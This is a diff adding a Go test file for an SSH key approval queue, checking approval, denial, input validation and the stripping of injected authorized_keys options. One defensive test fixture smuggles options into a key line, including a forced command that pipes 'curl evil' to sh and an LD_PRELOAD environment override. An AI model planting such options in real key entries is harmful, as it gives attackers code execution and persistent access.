@@ -0,0 +1,193 @@
+package core
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/ssh"
+)
+
+func setupTestApprovalQueue(t *testing.T) (*ApprovalQueue, *FileKeyManager, string) {
+	t.Helper()
+
+	km, _, cleanup := setupTestKeyManager(t)
+	t.Cleanup(cleanup)
+
+	dir := t.TempDir()
+	auditPath := filepath.Join(dir, "audit.log")
+	auditLogger, err := NewAuditLogger(auditPath, false, "")
+	if err != nil {
+		t.Fatalf("Failed to create audit logger: %v", err)
+	}
+	t.Cleanup(func() { auditLogger.Close() })
+
+	shares := NewShareStore(filepath.Join(dir, "shares.json"))
+	q, err := NewApprovalQueue(filepath.Join(dir, "requests"), km, shares, auditLogger)
+	if err != nil {
+		t.Fatalf("NewApprovalQueue() error = %v", err)
+	}
+
+	return q, km, auditPath
+}
+
+// TestApprovalQueueApprove tests that keys are only installed after approval
+func TestApprovalQueueApprove(t *testing.T) {
+	q, km, auditPath := setupTestApprovalQueue(t)
+
+	req, err := q.Submit(AccessRequest{User: "alice", PublicKey: testED25519Key, TTL: "2h", Source: "api"})
+	if err != nil {
+		t.Fatalf("Submit() error = %v", err)
+	}
+
+	keys, _ := km.ListKeys("alice")
+	if len(keys) != 0 {
+		t.Fatalf("key installed before approval: %+v", keys)
+	}
+
+	pending, err := q.Pending()
+	if err != nil || len(pending) != 1 {
+		t.Fatalf("Pending() = %v, %v; want one request", pending, err)
+	}
+	if pending[0].Fingerprint != req.Fingerprint {
+		t.Errorf("Pending() fingerprint = %v, want %v", pending[0].Fingerprint, req.Fingerprint)
+	}
+
+	key, err := q.Approve(req.ID)
+	if err != nil {
+		t.Fatalf("Approve() error = %v", err)
+	}
+	if key.ExpiresAt == nil {
+		t.Error("Approve() key has no expiry for TTL request")
+	}
+
+	keys, _ = km.ListKeys("alice")
+	if len(keys) != 1 || keys[0].Fingerprint != req.Fingerprint {
+		t.Errorf("ListKeys() = %+v, want approved key", keys)
+	}
+
+	shares, _ := q.shares.List()
+	if len(shares) != 1 || shares[0].ID != req.ID {
+		t.Errorf("shares = %+v, want share for approved request", shares)
+	}
+
+	pending, _ = q.Pending()
+	if len(pending) != 0 {
+		t.Errorf("Pending() after approval = %+v, want empty", pending)
+	}
+
+	data, _ := os.ReadFile(auditPath)
+	for _, event := range []string{"access_requested", "access_request_approved"} {
+		if !strings.Contains(string(data), event) {
+			t.Errorf("audit log missing %s event", event)
+		}
+	}
+}
+
+// TestApprovalQueueDeny tests that denied requests never install a key
+func TestApprovalQueueDeny(t *testing.T) {
+	q, km, auditPath := setupTestApprovalQueue(t)
+
+	// Drop a bare public key into the watch folder
+	if err := os.WriteFile(filepath.Join(q.Dir(), "bob.pub"), []byte(testECDSAKey+"\n"), 0600); err != nil {
+		t.Fatalf("Failed to write request: %v", err)
+	}
+
+	pending, err := q.Pending()
+	if err != nil || len(pending) != 1 {
+		t.Fatalf("Pending() = %v, %v; want one request", pending, err)
+	}
+	if pending[0].User != "bob" || pending[0].Source != "watch-folder" {
+		t.Errorf("Pending() = %+v, want watch-folder request for bob", pending[0])
+	}
+
+	if err := q.Deny(pending[0].ID); err != nil {
+		t.Fatalf("Deny() error = %v", err)
+	}
+
+	keys, _ := km.ListKeys("bob")
+	if len(keys) != 0 {
+		t.Errorf("ListKeys() = %+v, want no keys after denial", keys)
+	}
+	if err := q.Deny(pending[0].ID); err == nil {
+		t.Error("Deny() expected error for unknown request")
+	}
+
+	data, _ := os.ReadFile(auditPath)
+	if !strings.Contains(string(data), "access_request_denied") {
+		t.Error("audit log missing access_request_denied event")
+	}
+}
+
+// TestApprovalQueueSubmitValidation tests that bad requests are rejected
+func TestApprovalQueueSubmitValidation(t *testing.T) {
+	q, _, _ := setupTestApprovalQueue(t)
+
+	tests := []struct {
+		name string
+		req  AccessRequest
+	}{
+		{"missing user", AccessRequest{PublicKey: testED25519Key}},
+		{"invalid key", AccessRequest{User: "alice", PublicKey: invalidKey}},
+		{"invalid ttl", AccessRequest{User: "alice", PublicKey: testED25519Key, TTL: "soon"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := q.Submit(tt.req); err == nil {
+				t.Error("Submit() expected error")
+			}
+		})
+	}
+}
+
+// TestApprovalQueueDropsKeyOptions tests that options smuggled in with a
+// requested key are never installed
+func TestApprovalQueueDropsKeyOptions(t *testing.T) {
+	q, km, _ := setupTestApprovalQueue(t)
+	line := `command="/bin/sh -c 'curl evil | sh'",permitopen="10.0.0.1:22",environment="LD_PRELOAD=/tmp/x.so",expiry-time="209901010000" ` + testED25519Key
+
+	req, err := q.Submit(AccessRequest{User: "alice", PublicKey: line, TTL: "2h", Source: "api"})
+	if err != nil {
+		t.Fatalf("Submit() error = %v", err)
+	}
+	// A request dropped into the watch folder skips Submit
+	if err := os.WriteFile(filepath.Join(q.Dir(), "bob.pub"), []byte(`no-pty,command="/usr/bin/id" `+testRSAKey), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	pending, err := q.Pending()
+	if err != nil || len(pending) != 2 {
+		t.Fatalf("Pending() = %v, %v; want two requests", pending, err)
+	}
+	for _, p := range pending {
+		if _, _, options, _, err := ssh.ParseAuthorizedKey([]byte(p.PublicKey)); err != nil || len(options) != 0 {
+			t.Errorf("pending request key %q carries options %v", p.PublicKey, options)
+		}
+	}
+
+	for _, id := range []string{req.ID, "bob"} {
+		if _, err := q.Approve(id); err != nil {
+			t.Fatalf("Approve(%s) error = %v", id, err)
+		}
+	}
+	keys, err := km.ListKeys("")
+	if err != nil || len(keys) != 2 {
+		t.Fatalf("ListKeys() = %+v, %v; want both keys", keys, err)
+	}
+	for _, key := range keys {
+		_, _, options, _, err := ssh.ParseAuthorizedKey([]byte(key.PublicKey))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, opt := range options {
+			if !strings.HasPrefix(opt, expiryTimeOption+"=") {
+				t.Errorf("installed key %s carries option %s", key.User, opt)
+			}
+		}
+		if key.User == "alice" && (key.ExpiresAt == nil || key.ExpiresAt.Year() == 2099) {
+			t.Errorf("alice's key expires at %v, want the requested 2h", key.ExpiresAt)
+		}
+	}
+}